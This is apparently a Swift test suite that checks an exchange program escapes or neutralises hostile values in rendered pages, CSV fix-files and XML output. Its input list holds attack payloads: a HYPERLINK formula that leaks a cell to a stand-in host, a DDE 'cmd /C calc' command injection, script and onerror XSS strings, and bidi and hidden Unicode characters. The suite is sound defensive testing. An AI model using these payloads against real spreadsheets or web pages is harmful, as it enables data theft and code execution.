import Fuzzing
import TestSupport
import Testing

/// Values that would do something in whatever shows them come back harmless, through the real
/// program: in the page, in the fix-file, in the result.
@Suite struct HostileValueTests {
  private struct Value {
    let title: String
    let text: String
  }

  private static let values = [
    Value(title: "a link formula", text: #"=HYPERLINK("http://x/"&A1,"c")"#),
    Value(title: "a command", text: "@SUM(1+1)*cmd|' /C calc'!A0"),
    Value(title: "plus", text: "+1-1"),
    Value(title: "minus", text: "-2+3"),
    Value(title: "a tab first", text: "\t=1+1"),
    Value(title: "a wide equals sign", text: "\u{FF1D}1+1"),
    Value(title: "a script", text: "<script>alert(1)</script>"),
    Value(title: "an attribute", text: #""><img src=x onerror=alert(1)>"#),
    Value(title: "an entity", text: "&lt;b&gt; &amp; ]]>"),
    Value(title: "turned round", text: "A\u{202E}drowssap"),
    Value(title: "an isolate without end", text: "A\u{2067}B\u{2066}"),
    Value(title: "nothing between", text: "A\u{200B}B\u{FEFF}C"),
    Value(title: "a tag character", text: "A\u{E0041}B"),
  ]

  private static let fields = ["party_id", "type", "name_ar", "name_en", "status"]

  private func csv() -> [UInt8] {
    var text = Self.fields.joined(separator: ",") + "\n"
    for (place, value) in Self.values.enumerated() {
      let cell = "\"" + value.text.replacing("\"", with: "\"\"") + "\""
      text += "P-\(place),\(cell),\(cell),\(cell),ACTIVE\n"
    }
    return Array((text + "#END,\(Self.values.count)\n").utf8)
  }

  private func xml() -> [UInt8] {
    var text = """
      <manifest xmlns="urn:masar:exchange:1" kind="PTY" season="1447" sender="MOH" sequence="1">

      """
    for (place, value) in Self.values.enumerated() {
      let cell = value.text.replacing("&", with: "&amp;").replacing("<", with: "&lt;")
        .replacing(">", with: "&gt;")
      text += "<record><party_id>P-\(place)</party_id><type>\(cell)</type>"
      text += "<name_ar>\(cell)</name_ar><name_en>\(cell)</name_en><status>ACTIVE</status>"
      text += "</record>\n"
    }
    return Array((text + "</manifest>\n").utf8)
  }

  @Test(arguments: ["csv", "xml"])
  func `the page shows what was sent and obeys none of it`(_ suffix: String) throws {
    let outcome = try HostileTable.run(
      kind: "PTY", suffix: suffix, suffix == "csv" ? csv() : xml())
    let page = String(decoding: outcome.report, as: UTF8.self)
    #expect(outcome.page.verdict == "REJECTED")
    for tag in ["<script>alert", "<img", "onerror=alert(1)>"] {
      #expect(!page.contains(tag), "\(tag)")
    }
    #expect(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
    #expect(page.contains("<bdi>&amp;lt;b&amp;gt; &amp;amp; ]]&gt;</bdi>"))
    #expect(page.contains("A<i>U+202E</i>drowssap"))
    #expect(page.contains("A<i>U+200B</i>B<i>U+FEFF</i>C"))
    // The page itself isolates what it says in titles; values have elements of their own.
    for piece in page.split(separator: "<bdi>").dropFirst() {
      let value = piece.prefix(upTo: piece.firstRange(of: "</bdi>")?.lowerBound ?? piece.endIndex)
      for scalar in value.unicodeScalars where Self.isTurning(scalar) {
        Issue.record("U+\(String(scalar.value, radix: 16)) in a value")
      }
    }
    for scalar in page.unicodeScalars
    where Self.isTurning(scalar) && !"\u{2066}\u{2069}".unicodeScalars.contains(scalar) {
      Issue.record("U+\(String(scalar.value, radix: 16)) in the page")
    }
  }

  @Test(arguments: ["csv", "xml"])
  func `the result is well-formed and has each value where it was refused`(_ suffix: String) throws
  {
    let outcome = try HostileTable.run(
      kind: "PTY", suffix: suffix, suffix == "csv" ? csv() : xml())
    #expect(XMLReference.isWellFormed(Array(outcome.page.text.utf8)))
    for place in Self.values.indices {
      #expect(outcome.page.text.contains("P-\(place)"), "\(Self.values[place].title)")
    }
  }

  @Test func `no cell of the fix-file begins a formula, and nothing of it is lost`() throws {
    let outcome = try HostileTable.run(kind: "PTY", suffix: "csv", csv())
    var bytes = try #require(outcome.fixFile)
    #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]))
    bytes.removeFirst(3)
    let rows = ReferenceCSV(bytes, delimiter: UInt8(ascii: ",")).rows
    #expect(rows.count == Self.values.count + 2)
    for (value, row) in zip(Self.values, rows.dropFirst()) {
      for cell in row.cells {
        #expect(!Self.beginsFormula(cell), "\(value.title): \(cell)")
      }
      let guarded = Self.beginsFormula(value.text) ? "'" + value.text : value.text
      #expect(row.cells[1...3] == [guarded, guarded, guarded], "\(value.title)")
    }
  }

  @Test func `the fix-file of an XML list is XML with each value as it was sent`() throws {
    let outcome = try HostileTable.run(kind: "PTY", suffix: "xml", xml())
    let bytes = try #require(outcome.fixFile)
    #expect(XMLReference.isWellFormed(bytes))
    let text = String(decoding: bytes, as: UTF8.self)
    #expect(text.contains("<type>&lt;script&gt;alert(1)&lt;/script&gt;</type>"))
    #expect(text.contains("<type>A\u{202E}drowssap</type>"))
  }

  private static func beginsFormula(_ cell: String) -> Bool {
    let signs = "=+-@\t\r\n\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars
    return cell.unicodeScalars.first.map { signs.contains($0) } ?? false
  }

  /// What turns the direction of text, hides in it, or is read by machines alone.
  private static func isTurning(_ scalar: Unicode.Scalar) -> Bool {
    switch scalar.value {
    case 0x200B, 0x202A...0x202E, 0x2060, 0x2066...0x2069, 0xFEFF, 0xE0000...0xE007F: true
    default: false
    }
  }
}
